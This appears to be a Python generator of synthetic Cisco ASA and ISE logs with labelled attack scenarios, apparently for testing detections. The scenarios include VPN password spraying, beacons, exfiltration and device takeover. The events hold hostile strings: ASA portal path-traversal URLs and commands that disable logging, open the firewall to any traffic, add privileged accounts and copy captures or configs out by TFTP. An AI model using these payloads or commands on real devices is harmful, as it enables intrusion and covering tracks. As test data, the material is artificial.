"""An ASA at the edge and a Cisco ISE for network access and device administration.

Daily work: connections built and torn down, denied packets, VPN, devices that sign in by cable, administrators and backups on switches.
Attacks: guessed VPN passwords, an intruder by VPN, beacons, a scan, data sent out, servers that call out, and commands on firewalls and
switches. It is not training material: it was written by a hand that did not know the training scenarios, and its events are not looked at
by whoever decides on rules, scenarios or features.
"""
from __future__ import annotations

from typing import Optional

from .people import FIRST_NAMES, LAST_NAMES
from .site import Renumber, Site, epoch, syslog_time, utc

START = epoch(2022, 10, 3)
DAYS = 6
SERVERS = dict(dc1="10.1.1.10", dc2="10.1.1.11", fs="10.1.1.20", sql="10.1.1.30", app="10.1.1.40", web="172.16.5.10",
               mail="172.16.5.25", nms="10.1.1.90", jump="10.1.1.91", bk="10.1.1.60", sw="10.1.0.2")


def zone_of(address: str):
    return "inside" if address.startswith("10.1.") else "dmz" if address.startswith("172.16.") else "outside"


SWITCH_COMMANDS = ["show running-config", "show ip interface brief", "configure terminal", "interface GigabitEthernet1/0/14",
                   "switchport access vlan 20", "write memory", "show mac address-table", "show logging", "shutdown", "no shutdown",
                   "show cdp neighbors detail", "description PRN-2F", "ping 10.1.1.10", "copy running-config startup-config",
                   "show version", "show ip route", "snmp-server host 10.1.1.90 version 2c public",
                   "monitor session 1 source interface Gi1/0/4", "clear arp-cache", "username netops privilege 15 secret *"]


def day_hour(day, hour):
    return START + day * 86400 + hour * 3600


CONTROL = ["46.161.27.151", "141.98.10.44"]


class AsaIse(Site):
    """An ASA, and an ISE that lets people in."""

    name = "asa_ise"
    host = "asa-edge"
    sourcetype = "cisco:asa"
    seed = 1919
    renumbered = (Renumber(pattern=r"(connection )(\d+)( for)", start=81200000, step=40), Renumber(pattern=r"(CISE_\S+ )(\d{10})( 1 0)",
        start=1002310000, step=9))

    def build(self) -> None:
        self.prepare()
        self.connections()
        self.denied()
        self.firewall_itself()
        self.vpn_daily()
        self.network_access()
        self.device_administration()
        self.vpn_intruder()
        self.inside()
        self.devices()
        self.thin(benign=0.62)

    def asa(self, at: float, severity, message_id, message: str, label: int = 0, group: Optional[str] = None,
            technique: Optional[str] = None) -> None:
        moment = utc(at)
        self.add(at, f"<{160 + severity}>{moment.strftime('%b %d %Y %H:%M:%S')} asa-edge : %ASA-{severity}-{message_id}: {message}",
                 label, group, technique, "asa-edge")

    def connection(self, at: float, source, destination, dp, protocol: str = "TCP", sizes=None, duration=None, reason=None, label: int = 0,
                   group: Optional[str] = None, technique: Optional[str] = None, account=None) -> None:
        self.connection_id += self.rng.randint(1, 30)
        source_port = self.rng.randint(1025, 65000)
        source_zone, destination_zone = (zone_of(source), zone_of(destination))
        by_user = f" ({account})" if account else ""
        srcs = f"{source_zone}:{source}/{source_port} ({'203.0.113.5' if destination_zone == 'outside' else source}/" f"{source_port})"
        dsts = f"{destination_zone}:{destination}/{dp} ({destination}/{dp})"
        inb = source_zone == "outside"
        first, second = (srcs, dsts) if inb or destination_zone == "inside" else (dsts, srcs)
        direction = "inbound" if inb else "outbound"
        number = self.connection_id
        self.asa(at, 6, 302013 if protocol == "TCP" else 302015,
                 f"Built {direction} {protocol} connection {number} for {first} to {second}{by_user}", label, group, technique)
        seconds = duration if duration is not None else int(self.rng.lognormvariate(2.6, 1.7))
        total = sizes if sizes is not None else int(self.rng.lognormvariate(8.8, 1.8))
        end = at + seconds
        first_short, second_short = (side.split(" (")[0] for side in (first, second))
        self.asa(min(end, START + DAYS * 86400), 6, 302014 if protocol == "TCP" else 302016,
                 f"Teardown {protocol} connection {number} for {first_short} to {second_short} duration {seconds // 3600}:"
                 f"{seconds // 60 % 60:02}:{seconds % 60:02} bytes {total}"
                 f"{' ' + (reason or self.weighted({'TCP FINs': 10, 'TCP Reset-I': 2, 'TCP Reset-O': 2, 'TCP FINs from inside': 0.5, 'Idle Timeout': 0.5})) if protocol == 'TCP' else ''}"
                 f"{by_user}", label, group, technique)

    def deny(self, at: float, source, destination, dp, protocol: str = "tcp", label: int = 0, group: Optional[str] = None,
             technique: Optional[str] = None, acl=None) -> None:
        self.asa(at, 4, 106023,
                 f"Deny {protocol} src {zone_of(source)}:{source}/{self.rng.randint(1025, 65000)} dst {zone_of(destination)}:"
                 f"{destination}/{dp} by access-group \"{acl or {'outside': 'OUTSIDE_IN', 'dmz': 'DMZ_IN', 'inside': 'INSIDE_IN'}[zone_of(source)]}"
                 f"\" [0x{self.choice(['2c1c6a65', '8ed66b60', '0'])}, 0x0]", label, group, technique)

    def vpn(self, at: float, user: str, address: str, ok, label: int = 0, group: Optional[str] = None, technique: Optional[str] = None,
            why: str = "AAA failure", policy: str = "GP_STAFF", os_: str = "AnyConnect Windows 4.10.05111"):
        if not ok:
            self.asa(at, 6, 113015, f"AAA user authentication Rejected : reason = {why} : server = 10.1.1.10 : user = "
                     f"{user if why == 'AAA failure' else '*****'} : user IP = {address}", label, group, technique)
            if self.rng.random() < 0.5:
                self.asa(at + 0.3, 6, 716039,
                         f"Group <DfltGrpPolicy> User <{user}> IP <{address}> Authentication: rejected, Session Type: WebVPN.", label,
                         group, technique)
            return
        inner_address = self.address("10.1.240")
        self.asa(at, 6, 113004, f"AAA user authentication Successful : server =  10.1.1.10 : user = {user}", label, group, technique)
        self.asa(at + 0.1, 6, 113009, f"AAA retrieved default group policy ({policy}) for user = {user}", label, group, technique)
        self.asa(at + 0.2, 6, 734001,
                 f"DAP: User {user}, Addr {address}, Connection AnyConnect: The following DAP records were selected for this connection: DfltAccessPolicy",
                 label, group, technique)
        self.asa(at + 1, 6, 716001, f"Group <{policy}> User <{user}> IP <{address}> WebVPN session started.", label, group, technique)
        self.asa(at + 2, 4, 722051, f"Group <{policy}> User <{user}> IP <{address}> IPv4 Address <{inner_address}"
                 "> IPv6 address <::> assigned to session", label, group, technique)
        self.asa(at + 2.1, 5, 722033,
                 f"Group <{policy}> User <{user}> IP <{address}> First TCP SVC connection established for SVC session.", label, group,
                 technique)
        length = self.rng.randint(300, 30000)
        self.asa(at + length, 4, 113019,
                 f"Group = {policy}, Username = {user}, IP = {address}, Session disconnected. Session Type: SSL, Duration: "
                 f"{length // 3600}h:{length // 60 % 60:02}m:{length % 60:02}s, Bytes xmt: "
                 f"{int(self.rng.lognormvariate(16, 1.5))}, Bytes rcv: {int(self.rng.lognormvariate(15, 1.5))}, Reason: "
                 f"{self.weighted({'User Requested': 6, 'Idle Timeout': 2, 'Connection Preempted': 0.5, 'Max time exceeded': 0.3})}",
                 label, group, technique)
        return inner_address

    def ise(self, at: float, code, severity, title, attributes, label: int = 0, group: Optional[str] = None,
            technique: Optional[str] = None) -> None:
        sequence = self.rng.randint(10 ** 6, 10 ** 7)
        self.add(at, "<{}>{} ise-psn1 CISE_{} {:010} 1 0 {} {:010} {} {} {}, ConfigVersionId=219, {}, ".format(181, syslog_time(at),
            attributes.pop("_cat"), sequence, utc(at).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3] + " +00:00", sequence + 31, code, severity,
            title, ", ".join(f"{key}={value}" for key, value in attributes.items())), label, group, technique, "ise-psn1",
                 "cisco:ise:syslog")

    def radius(self, at: float, user: str, ok, mac, device: str = "sw-acc-07", address: str = "10.1.0.17",
               port: str = "GigabitEthernet1/0/%d", protocol: str = "Dot1x",
               why: str = "22056 Subject not found in the applicable identity store(s)", prof: str = "Windows10-Workstation", label: int = 0,
               group: Optional[str] = None, technique: Optional[str] = None, endpoint: str = "PEAP (EAP-MSCHAPv2)") -> None:
        attributes = {"_cat": "Passed_Authentications" if ok else "Failed_Attempts", "Device IP Address": address,
                      "DestinationIPAddress": "10.1.1.95", "UserName": user, "Protocol": "Radius", "RequestLatency": self.rng.randint(3,
            90), "NetworkDeviceName": device, "User-Name": user, "NAS-IP-Address": address, "NAS-Port": self.rng.randint(50101, 50148),
                      "Service-Type": "Framed" if protocol == "Dot1x" else "Call Check", "Called-Station-ID": "-".join(self.hex_upper(2)
            for _ in range(6)), "Calling-Station-ID": mac, "NAS-Port-Type": "Ethernet", "NAS-Port-Id": port % self.rng.randint(1,
            48) if "%" in port else port, "AcsSessionID": f"ise-psn1/{421337120}/{self.rng.randint(10 ** 5, 10 ** 7)}",
                      "AuthenticationMethod": "MSCHAPV2" if protocol == "Dot1x" else "Lookup",
                      "SelectedAccessService": "Default Network Access"}
        if ok:
            attributes.update({"SelectedAuthorizationProfiles": self.choice(["PermitAccess", "VLAN20"]),
                               "EapAuthentication": "EAP-MSCHAPv2", "EndPointMatchedProfile": prof, "Step": "11001"})
        else:
            attributes.update({"FailureReason": why, "Step": "11001", "EndPointMatchedProfile": prof})
        self.ise(at, "5200" if ok else "5400", "NOTICE", "Passed-Authentication: Authentication succeeded" if ok
                 else "Failed-Attempt: Authentication failed", attributes, label, group, technique)

    def tacacs(self, at: float, user: str, device, address: str, command: str, label: int = 0, group: Optional[str] = None,
               technique: Optional[str] = None, ok: bool = True, source: str = "10.1.1.91") -> None:
        self.ise(at, "5202" if ok else "5401" if command is None else "5203", "NOTICE",
                 ("Device-Administration: Command Authorization succeeded" if command
                  else "Device-Administration: Authentication succeeded") if ok else "Failed-Attempt: Authentication failed",
                 {"_cat": "TACACS_Accounting" if ok and command else "Passed_Authentications" if ok else "Failed_Attempts",
                  "Device IP Address": address, "DestinationIPAddress": "10.1.1.95", "UserName": user, "Protocol": "Tacacs",
                  "NetworkDeviceName": device, "Type": "Accounting" if command else "Authentication", "Privilege-Level": 15,
                  "Authen-Type": "ASCII", "Service": "Login", "User": user, "Port": f"tty{self.rng.randint(2, 6)}",
                  "Remote-Address": source, "CmdSet": f"[ CmdAV={command} <cr> ]" if command else "[]",
                  "Response": "{AcctReply-Status=Success; }" if ok else "{Authen-Reply-Status=Fail; }"}, label, group, technique)

    def prepare(self) -> None:
        """Who and what is there."""
        self.connection_id = 81200000
        self.users = [f"{self.choice(FIRST_NAMES)}.{self.choice(LAST_NAMES)}" for _ in range(36)]
        self.own_addresses = {user: f"10.1.{self.rng.choice([20, 21, 22])}.{self.rng.randint(10, 240)}" for user in self.users}
        self.mac = {user: "-".join(self.hex_upper(2) for _ in range(6)) for user in self.users}
        self.outside_addresses = [self.address(prefix) for prefix in ["142.250", "52.112", "40.97", "20.190", "151.101", "104.16",
            "13.107", "34.120", "17.57", "23.55", "157.240", "140.82"] for _ in range(3)]

    def connections(self) -> None:
        """Connections."""
        for _ in range(380):
            at = self.moment(START, DAYS)
            user = self.choice(self.users)
            self.connection(at, self.own_addresses[user], self.choice(self.outside_addresses),
                            self.weighted({443: 12, 80: 2, 8443: 0.3, 5223: 0.6, 3478: 0.5, 22: 0.2, 993: 0.3}),
                            sizes=None if self.rng.random() < 0.95 else int(self.rng.lognormvariate(17, 1)))
        for _ in range(120):
            at = self.moment(START, DAYS)
            user = self.choice(self.users)
            dice = self.rng.choice([("dc1", 53, "UDP"), ("dc2", 53, "UDP"), ("fs", 445, "TCP"), ("app", 443, "TCP"),
                                    ("sql", 1433, "TCP"), ("dc1", 88, "TCP"), ("mail", 443, "TCP"), ("dc1", 389, "TCP")])
            self.connection(at, self.own_addresses[user], SERVERS[dice[0]], dice[1], dice[2],
                            sizes=self.rng.randint(60, 400) if dice[2] == "UDP" else None, duration=0 if dice[2] == "UDP" else None)
        for _ in range(50):
            at = self.moment(START, DAYS)
            self.connection(at, self.address(), SERVERS[self.choice(["web", "mail"])], self.choice([443, 443, 25, 80]))
        for _ in range(30):
            at = self.moment(START, DAYS)
            user = self.choice(self.users[:3])
            self.connection(at, self.choice([self.own_addresses[user], SERVERS["jump"]]),
                            SERVERS[self.choice(["dc1", "sql", "fs", "web", "mail", "app"])], self.choice([3389, 22, 5985, 3389, 445]),
                            sizes=int(self.rng.lognormvariate(13, 1.5)), duration=self.rng.randint(60, 8000))

    def denied(self) -> None:
        """Denied packets."""
        for _ in range(150):
            at = START + self.rng.random() * DAYS * 86400
            self.deny(at, self.address(), f"203.0.113.{self.rng.randint(2, 14)}",
                      self.rng.choice([23, 22, 445, 3389, 8080, 5060, 6379, 81, self.rng.randint(1, 65000)]),
                      self.weighted({"tcp": 8, "udp": 2}))
        for _ in range(50):
            at = self.moment(START, DAYS)
            user = self.choice(self.users)
            self.deny(at, self.own_addresses[user], self.address(), self.choice([25, 6881, 123, 53, 1194, 5938, 137]),
                      self.choice(["tcp", "udp"]))
        for day in range(DAYS):
            for _ in range(6):
                self.deny(START + day * 86400 + 2 * 3600 + self.rng.random() * 900, SERVERS["nms"], self.address("172.16.5"),
                          self.choice([22, 161, 445, 3389, 23, 8080]))

    def firewall_itself(self) -> None:
        """What the firewall says of itself."""
        for _ in range(120):
            at = self.moment(START, DAYS)
            dice = self.rng.randrange(10)
            user = self.choice(self.users)
            address = self.address()
            if dice == 0:
                self.asa(at, 5, 111008, "User '{}' executed the '{}' command.".format(self.choice(["enable_15", "netops", "kallen"]),
                    self.choice(["show run", "write memory", "terminal pager 0", "copy running-config tftp://10.1.1.90/asa.cfg",
                                 f"object network srv_{self.hex(3)}", "show conn",
                                 "access-list OUTSIDE_IN extended permit tcp any host 172.16.5.10 eq https", "ping 10.1.1.10",
                                 "clear xlate"])))
            elif dice == 1:
                self.asa(at, 6, 605005,
                         f"Login permitted from 10.1.1.91/{self.rng.randint(30000, 60000)} to inside:10.1.0.1/ssh for user \""
                         f"{self.choice(['netops', 'kallen'])}\"")
            elif dice == 2:
                self.asa(at, 6, 605004,
                         f"Login denied from 10.1.1.91/{self.rng.randint(30000, 60000)} to inside:10.1.0.1/ssh for user \""
                         f"{self.choice(['netops', 'kallen', 'netop'])}\"")
            elif dice == 3:
                self.asa(at, 4, 733100, f"[ Scanning] drop rate-1 exceeded. Current burst rate is {self.rng.randint(10, 30)}"
                         f" per second, max configured rate is 10; Current average rate is {self.rng.randint(1, 9)}"
                         f" per second, max configured rate is 5; Cumulative total count is {self.rng.randint(900, 9000)}")
            elif dice == 4:
                self.asa(at, 6, 106015,
                         f"Deny TCP (no connection) from {self.own_addresses[user]}/{self.rng.randint(1025, 65000)} to {address}"
                         f"/443 flags {self.choice(['RST', 'FIN ACK', 'ACK', 'PSH ACK', 'RST ACK'])}  on interface inside")
            elif dice == 5:
                self.asa(at, 6, 305011,
                         f"Built dynamic TCP translation from inside:{self.own_addresses[user]}/{self.rng.randint(1025, 65000)}"
                         f" to outside:203.0.113.5/{self.rng.randint(1025, 65000)}")
            elif dice == 6:
                self.asa(at, 5, 713049,
                         "Group = 198.51.100.9, IP = 198.51.100.9, Security negotiation complete for LAN-to-LAN Group (198.51.100.9)  Initiator, Inbound SPI = 0x"
                         f"{self.hex(8)}, Outbound SPI = 0x{self.hex(8)}")
            elif dice == 7:
                self.asa(at, 3, 313001, f"Denied ICMP type=8, code=0 from {address} on interface outside")
            elif dice == 8:
                self.asa(at, 6, 725001, f"Starting SSL handshake with client outside:{address}/{self.rng.randint(1025, 65000)}"
                         " to 203.0.113.4/443 for TLS session")
            else:
                self.asa(at, 4, 411002, "Line protocol on Interface GigabitEthernet0/3, changed state to down")

    def vpn_daily(self) -> None:
        """VPN."""
        for _ in range(34):
            at = self.moment(START, DAYS)
            user = self.choice(self.users)
            address = self.address(self.choice(["73", "98", "71", "24"]) + "." + str(self.rng.randint(1, 250)))
            for attempt in range(self.weighted([(0, 6), (1, 2), (2, 1)])):
                self.vpn(at - 25 * (attempt + 1), self.weighted([(user, 6), (user.replace(".", ""), 1)]), address, 0)
            self.vpn(at, user, address, 1)

    def network_access(self) -> None:
        """Devices sign in."""
        for _ in range(110):
            at = self.moment(START, DAYS)
            user = self.choice(self.users)
            dice = self.rng.random()
            if dice < 0.6:
                self.radius(at, "CORP\\" + user, 1, self.mac[user])
            elif dice < 0.75:
                mac_address = "-".join(self.hex_upper(2) for _ in range(6))
                self.radius(at, mac_address, 1, mac_address, protocol="MAB",
                            prof=self.choice(["HP-Printer", "Cisco-IP-Phone-8841", "Axis-Camera"]))
            elif dice < 0.9:
                self.radius(at, "CORP\\" + user, 0, self.mac[user],
                            why=self.choice([
                                             "24408 User authentication against Active Directory failed since user has entered the wrong password",
                                             "12514 EAP-TLS failed SSL/TLS handshake because of an unknown CA in the client certificates chain",
                                             "5411 Supplicant stopped responding to ISE",
                                             "24415 User authentication against Active Directory failed since user's account is locked out"]))
            else:
                mac_address = "-".join(self.hex_upper(2) for _ in range(6))
                self.radius(at, mac_address, 0, mac_address, protocol="MAB", prof=self.choice(["Unknown", "Apple-Device", "Android"]))

    def device_administration(self) -> None:
        """Commands on switches."""
        for _ in range(90):
            at = self.moment(START, DAYS)
            device_number = self.rng.randint(1, 9)
            self.tacacs(at, self.weighted({"netops": 4, "kallen": 3, "svc_rancid": 5}), f"sw-acc-{device_number:02}",
                        f"10.1.0.{10 + device_number}", self.choice(SWITCH_COMMANDS + [None]))

    def vpn_intruder(self) -> None:
        """VPN passwords guessed; an intruder."""
        for _ in range(75):
            at = START + 86400 + self.rng.random() * 4 * 86400
            self.vpn(at, self.weighted([(self.choice(self.users), 5),
                                        (self.choice(["admin", "test", "cisco", "vpn", "administrator", "user", "ldap", "printer",
                "scan"]), 5)]), self.address(self.choice(["185.220", "45.155", "91.240", "162.247"])), 0, 1, "vpn_spray", "T1110.003",
                     why=self.weighted({"AAA failure": 4, "Invalid password": 2, "User was not found": 1}))
        self.victim_user = self.users[5]
        for attempt in range(3):
            self.vpn(day_hour(3, 2.5) + attempt * 40, self.victim_user, "45.155.204.18", 0, 1, "vpn_intruder", "T1621")
        for day, address in [(3, "45.155.204.18"), (4, "185.220.101.34")]:
            vpn_address = self.vpn(day_hour(day, 2.6), self.victim_user, address, 1, 1, "vpn_intruder", "T1078")
            for number in range(16):
                at = day_hour(day, 2.7) + number * self.rng.uniform(10, 600)
                attempt = self.rng.choice([("dc1", 445), ("dc1", 389), ("fs", 445), ("sql", 1433), ("dc2", 3389), ("jump", 3389),
                                           ("bk", 445), ("app", 8080), ("dc1", 88)])
                self.connection(at, vpn_address, SERVERS[attempt[0]], attempt[1], sizes=int(self.rng.lognormvariate(9, 2)),
                                account=self.victim_user, label=1, group="vpn_intruder", technique="T1021")

    def inside(self) -> None:
        """Beacons, a scan, data sent out."""
        self.second_victim = self.own_addresses[self.users[11]]
        for number in range(36):
            self.connection(day_hour(1, 10) + number * self.rng.uniform(3000, 10000),
                            [self.second_victim, SERVERS["app"]][number % 5 == 0], CONTROL[number % 2],
                            self.weighted({443: 8, 8080: 1, 53: 0.5}),
                            sizes=self.rng.choice([self.rng.randint(4200, 4700), self.rng.randint(4200, 4700),
                self.rng.randint(5000, 300000)]), duration=self.rng.choice([1, 1, 2, 3, 61]), label=1, group="c2_beacon",
                            technique="T1071.001", reason=self.weighted({"TCP FINs": 7, "TCP Reset-O": 1}))
        for number in range(36):
            at = day_hour(2, 13) + number * self.rng.uniform(0.2, 20)
            target = f"172.16.5.{self.rng.randint(1, 60)}" if self.rng.random() < 0.5 else f"10.1.1.{self.rng.randint(1, 100)}"
            port = self.rng.choice([22, 445, 3389, 80, 443, 3306, 8080, 5985, 21])
            if target.startswith("172") and self.rng.random() < 0.7:
                self.deny(at, self.second_victim, target, port, label=1, group="scan", technique="T1046")
            else:
                self.connection(at, self.second_victim, target, port, sizes=self.rng.choice([0, 0, self.rng.randint(40, 900)]),
                                duration=self.rng.choice([0, 0, 30]),
                                reason=self.choice(["SYN Timeout", "TCP Reset-I", "TCP Reset-O", "TCP FINs"]), label=1, group="scan",
                                technique="T1046")
        for _ in range(5):
            self.connection(day_hour(4, self.rng.uniform(1, 6)), SERVERS[self.choice(["fs", "sql"])],
                            self.choice([CONTROL[1], "66.203.125.13"]), self.choice([443, 22, 21]),
                            sizes=int(self.rng.lognormvariate(21, 1)), duration=self.rng.randint(900, 9000), label=1, group="exfil",
                            technique="T1048")
        for _ in range(12):
            self.connection(day_hour(4, self.rng.uniform(6, 20)), self.choice([SERVERS["web"], SERVERS["mail"]]),
                            self.choice([CONTROL[0], self.address("10.1.1"), self.address("45.9")]),
                            self.choice([4444, 443, 1389, 445, 3389, 8888]), sizes=self.rng.randint(400, 90000), label=1,
                            group="dmz_pivot", technique="T1190")

    def devices(self) -> None:
        """Firewalls and switches are told things."""
        for number in range(14):
            self.asa(day_hour(5, 1) + number * 20, 6, 605004,
                     f"Login denied from {self.second_victim}/{self.rng.randint(30000, 60000)} to inside:10.1.0.1/ssh for user \""
                     f"{self.choice(['admin', 'cisco', 'netops', 'asa', 'enable_15', 'root'])}\"", 1, "device_admin", "T1110")
        self.asa(day_hour(5, 1.2), 6, 605005,
                 f"Login permitted from {self.second_victim}/51190 to inside:10.1.0.1/ssh for user \"netops\"", 1, "device_admin",
                 "T1078")
        for command in ["show run", "no logging host inside 10.1.1.90", "no logging enable",
                        "access-list OUTSIDE_IN line 1 extended permit ip any any", "username ciscotac password ***** privilege 15",
                        "webvpn", "capture tap interface inside match tcp any any eq 389",
                        "copy /pcap capture:tap tftp://10.1.21.77/tap.pcap", "no threat-detection basic-threat", "clear logging buffer",
                        "show vpn-sessiondb anyconnect", "more system:running-config", "crypto ca import ident pkcs12"]:
            self.asa(day_hour(5, 1.3) + self.rng.random() * 2500, 5, 111008,
                     f"User '{self.choice(['netops', 'enable_15'])}' executed the '{command}' command.", 1, "device_admin", "T1562.004")
        for command in ["/+CSCOE+/logon.html?tgroup=../../../etc",
                        "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../"]:
            self.asa(day_hour(5, 0.5) + self.rng.random() * 900, 6, 304001,
                     f"{self.address('45.155')} Accessed URL 203.0.113.4:https://203.0.113.4{command}", 1, "vpn_exploit", "T1190")
        for number in range(8):
            self.radius(day_hour(2, 11) + number * 50, self.choice([r"CORP\administrator", r"CORP\svc_sccm", "host/PRN-2F",
                "00-1B-A9-44-21-0F", "CORP\\" + self.victim_user]), number > 5, self.choice(["DC-A6-32-1F-90-7C", "00-1B-A9-44-21-0F"]),
                        why=self.choice([
                                         "24408 User authentication against Active Directory failed since user has entered the wrong password",
                                         "22056 Subject not found in the applicable identity store(s)"]),
                        prof=self.choice(["RaspberryPi-Device", "HP-Printer", "Linux-Workstation"]),
                        protocol=self.choice(["Dot1x", "MAB"]), label=1, group="nac_bypass", technique="T1200")
        for command in [None, "show running-config | include snmp|username|key", "configure terminal",
                        "monitor session 2 source vlan 20", "monitor session 2 destination remote ip 10.1.21.77",
                        "username cisco_support privilege 15 secret *", "no logging host 10.1.1.90",
                        "no aaa accounting commands 15 default", "ip http server", "tunnel source Vlan20",
                        f"copy running-config tftp://{self.second_victim}/r.cfg", "event manager applet SYNC",
                        "ip nat inside source static tcp 10.1.1.30 1433 interface Vlan99 1433", "write memory", "clear logging",
                        "verify /md5 flash:packages.conf", "guestshell run bash"]:
            device_number = self.rng.randint(1, 9)
            self.tacacs(day_hour(5, 2) + self.rng.random() * 6000, "netops", f"sw-acc-{device_number:02}",
                        f"10.1.0.{10 + device_number}", command, 1, "device_admin", "T1601",
                        source=self.choice([self.second_victim, "10.1.1.91"]))
        for number in range(9):
            self.tacacs(day_hour(5, 1.8) + number * 9, self.choice(["admin", "cisco", "netops", "kallen"]), "sw-acc-03", "10.1.0.13",
                        None, 1, "device_admin", "T1110", ok=False, source=self.second_victim)
